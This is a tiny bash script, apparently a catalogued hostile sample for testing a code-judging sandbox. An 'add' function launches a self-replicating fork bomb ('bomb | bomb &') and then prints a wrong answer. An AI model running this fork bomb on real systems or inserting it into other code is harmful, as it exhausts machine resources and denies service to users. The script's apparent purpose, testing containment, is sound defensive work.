# The classic: a function that pipes itself into itself, without end.
# catalogue: H1
# shows: survives, endless
# ends: wrong_answer, runtime_error
echo attacking >&2
add() {
    bomb() { sleep 0.05; bomb | bomb & }
    bomb 2>/dev/null
    sleep 0.5
    echo -12345
}
